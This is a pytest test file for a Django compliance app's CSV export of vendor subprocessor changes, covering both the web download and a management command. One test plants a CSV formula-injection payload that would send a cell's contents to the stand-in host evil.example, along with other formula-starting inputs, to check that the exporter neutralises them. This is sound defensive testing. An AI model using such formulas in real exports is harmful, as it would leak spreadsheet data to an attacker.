"""The change log as CSV: the download and ``manage.py export_changes``."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from compliance.exports import change_csv_lines, neutralise
from compliance.models import Change
from compliance.selectors import change_export_rows
from tests.compliance.builders import (
    make_change,
    make_changes,
    make_charlie,
    make_source,
    make_subprocessor,
    make_vendor,
    row,
)

pytestmark = pytest.mark.django_db

HEADER = [
    "Vendor",
    "Kind",
    "Entity",
    "Name as published",
    "Purpose",
    "Location",
    "Countries",
    "Detected",
    "Objection deadline",
    "Review status",
    "Fields changed",
    "Previous values",
    "Source URL",
]
EXPORT_QUERIES = 3  # session, user, one SELECT streamed in chunks


@pytest.fixture
def charlie(db):
    return make_charlie()


def _download(client, **params) -> list[list[str]]:
    response = client.get(reverse("change_export"), params)
    assert response.streaming
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def _command(*args: str) -> list[list[str]]:
    out = io.StringIO()
    call_command("export_changes", *args, stdout=out)
    return list(csv.reader(io.StringIO(out.getvalue())))


def _at(day: str) -> datetime:
    return timezone.make_aware(datetime.fromisoformat(day + " 12:00"))


def test_charlie_downloads_the_change_log_with_a_header_and_one_row_per_change(client, charlie):
    source = make_source(make_vendor("Acme Cloud"), url="https://acme.example.com/sub")
    make_change(
        source,
        make_subprocessor("Stripe, Inc."),
        after=row(
            "Stripe Inc", purpose="Payments", location="USA; Ireland", countries=["US", "IE"]
        ),
        detected_at=_at("2025-03-01"),
        deadline_days=30,
    )
    client.force_login(charlie)
    response = client.get(reverse("change_export"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="subwatch-changes-')
    header, line = _download(client)
    assert header == HEADER
    assert line == [
        "Acme Cloud",
        "Added",
        "Stripe, Inc.",
        "Stripe Inc",
        "Payments",
        "USA; Ireland",
        "US, IE",
        "2025-03-01 12:00+00:00",
        "2025-03-31 12:00+00:00",
        "New",
        "",
        "",
        "https://acme.example.com/sub",
    ]


def test_a_modified_change_exports_the_after_values_and_what_changed(client, charlie):
    source = make_source(make_vendor())
    make_change(
        source,
        make_subprocessor("Twilio"),
        Change.Kind.MODIFIED,
        before=row("Twilio", purpose="SMS", countries=["US"]),
        after=row("Twilio", purpose="SMS and voice", countries=["US", "DE"]),
        fields=["purpose", "countries"],
    )
    client.force_login(charlie)
    _, line = _download(client)
    cells = dict(zip(HEADER, line, strict=True))
    assert cells["Kind"] == "Modified"
    assert cells["Purpose"] == "SMS and voice"
    assert cells["Countries"] == "US, DE"
    assert cells["Fields changed"] == "purpose, countries"
    assert cells["Previous values"] == "purpose: SMS; countries: US"


def test_a_removed_change_exports_the_row_as_it_was(client, charlie):
    source = make_source(make_vendor())
    make_change(
        source,
        make_subprocessor("Mailgun"),
        Change.Kind.REMOVED,
        before=row("Mailgun", purpose="Email delivery", countries=["US"]),
    )
    client.force_login(charlie)
    _, line = _download(client)
    cells = dict(zip(HEADER, line, strict=True))
    assert (cells["Kind"], cells["Purpose"], cells["Countries"]) == (
        "Removed",
        "Email delivery",
        "US",
    )


def test_a_formula_in_scraped_text_comes_out_neutralised(client, charlie):
    source = make_source(make_vendor())
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    make_change(
        source,
        make_subprocessor("Evil Corp"),
        after=row(formula, purpose="+1+1", location="@SUM(A1)", countries=[]),
    )
    client.force_login(charlie)
    _, line = _download(client)
    cells = dict(zip(HEADER, line, strict=True))
    assert cells["Name as published"] == "'" + formula
    assert cells["Purpose"] == "'+1+1"
    assert cells["Location"] == "'@SUM(A1)"


def test_neutralise_prefixes_only_cells_that_would_start_a_formula():
    for risky in ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\uff1d1"]:
        assert neutralise(risky) == "'" + risky
    for plain in ["Amazon Web Services", "US, DE", "1-2 days", "", "a=b", "'quoted"]:
        assert neutralise(plain) == plain


def test_the_download_respects_the_change_list_filters(client, charlie):
    acme, globex = make_source(make_vendor("Acme")), make_source(make_vendor("Globex"))
    make_change(acme, make_subprocessor("Acme New"))
    make_change(acme, make_subprocessor("Acme Gone"), Change.Kind.REMOVED)
    make_change(globex, make_subprocessor("Globex New"))
    make_change(globex, make_subprocessor("Old One"), detected_at=_at("2020-01-01"))
    client.force_login(charlie)

    def entities(**params) -> set[str]:
        return {line[2] for line in _download(client, **params)[1:]}

    assert entities(vendor=acme.vendor.slug) == {"Acme New", "Acme Gone"}
    assert entities(kind="removed") == {"Acme Gone"}
    assert entities(since="2021-01-01") == {"Acme New", "Acme Gone", "Globex New"}
    assert len(entities()) == 4


@pytest.mark.parametrize("n", [3, 30])
def test_the_download_runs_the_same_queries_for_3_or_30_changes(
    client, charlie, django_assert_num_queries, n
):
    make_changes(n)
    client.force_login(charlie)
    with django_assert_num_queries(EXPORT_QUERIES):
        response = client.get(reverse("change_export"))
        body = b"".join(response.streaming_content)
    assert body.count(b"\r\n") == n + 1


def test_the_generator_reads_the_queryset_in_chunks(django_assert_num_queries):
    make_changes(5)
    with django_assert_num_queries(1):
        lines = list(change_csv_lines(change_export_rows(), chunk_size=2))
    assert len(lines) == 6


def test_export_changes_writes_the_header_first_then_the_log():
    make_changes(2)
    lines = _command()
    assert lines[0] == HEADER
    assert len(lines) == 3


def test_export_changes_since_keeps_changes_detected_on_or_after_that_day():
    source = make_source(make_vendor())
    make_change(source, make_subprocessor("Before"), detected_at=_at("2025-01-31"))
    make_change(source, make_subprocessor("On The Day"), detected_at=_at("2025-02-01"))
    make_change(source, make_subprocessor("After"), detected_at=_at("2025-02-02"))
    lines = _command("--since", "2025-02-01")
    assert lines[0] == HEADER
    assert {line[2] for line in lines[1:]} == {"On The Day", "After"}


@pytest.mark.parametrize("bad", ["yesterday", "2025-13-01", "01/02/2025", ""])
def test_export_changes_refuses_a_malformed_since_with_exit_code_2(bad):
    with pytest.raises(CommandError) as raised:
        call_command("export_changes", "--since", bad, stdout=io.StringIO())
    assert raised.value.returncode == 2
    assert "YYYY-MM-DD" in str(raised.value)


def test_export_changes_exits_2_with_one_line_on_stderr_from_the_shell(tmp_path: Path):
    # A malformed date fails before the database is read, so a throwaway
    # var/ folder is enough for the real process.
    manage = Path(__file__).resolve().parents[2] / "manage.py"
    env = {**os.environ, "SUBWATCH_VAR_DIR": str(tmp_path)}
    env.pop("DATABASE_URL", None)
    result = subprocess.run(
        [sys.executable, str(manage), "export_changes", "--since", "31/01/2025"],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.strip().count("\n") == 0
    assert "YYYY-MM-DD" in result.stderr


def test_deadlines_are_written_in_the_configured_time_zone(settings):
    settings.TIME_ZONE = "Asia/Riyadh"
    source = make_source(make_vendor())
    midnight_utc = datetime(2025, 3, 1, tzinfo=UTC)
    make_change(source, detected_at=midnight_utc, deadline_days=1)
    (_, line) = _command()
    assert line[7:9] == ["2025-03-01 03:00+03:00", "2025-03-02 03:00+03:00"]
